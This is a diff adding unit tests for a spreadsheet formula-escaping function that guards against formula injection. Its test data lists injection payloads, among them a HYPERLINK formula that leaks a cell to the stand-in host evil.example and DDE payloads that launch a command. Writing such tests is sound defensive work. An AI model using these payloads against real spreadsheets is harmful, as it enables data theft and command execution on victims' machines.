@@ -0,0 +1,40 @@
+import { describe, test, expect } from 'vitest';
+import { escapeFormula, unescapeFormula } from './formula-escape';
+
+const HOSTILE_VALUES = [
+  '=HYPERLINK("https://evil.example/?leak="&A1, "Click me")',
+  "=cmd|' /C calc'!A0",
+  '+1+cmd|\' /C calc\'!A0',
+  '-2+3',
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '\t=1+1',
+  '\r=1+1',
+];
+
+describe('escapeFormula', () => {
+  test.each(HOSTILE_VALUES)('prefixes an apostrophe to %j', value => {
+    expect(escapeFormula(value)).toBe(`'${value}`);
+  });
+
+  test('leaves ordinary values unchanged', () => {
+    expect(escapeFormula('How to Build a PWA')).toBe('How to Build a PWA');
+    expect(escapeFormula('https://example.com/a=1')).toBe('https://example.com/a=1');
+    expect(escapeFormula('')).toBe('');
+  });
+
+  test('escapes values that already start with an apostrophe', () => {
+    expect(escapeFormula("'Tis the season")).toBe("''Tis the season");
+  });
+});
+
+describe('unescapeFormula', () => {
+  test.each([...HOSTILE_VALUES, "'Tis the season", "''", 'Plain title', ''])('round-trips %j', value => {
+    expect(unescapeFormula(escapeFormula(value))).toBe(value);
+  });
+
+  test('keeps values Google Sheets returned without the apostrophe', () => {
+    // Sheets stores "'=1+1" as the text "=1+1" and "''Tis" as "'Tis"
+    expect(unescapeFormula('=1+1')).toBe('=1+1');
+    expect(unescapeFormula("'Tis the season")).toBe("'Tis the season");
+  });
+});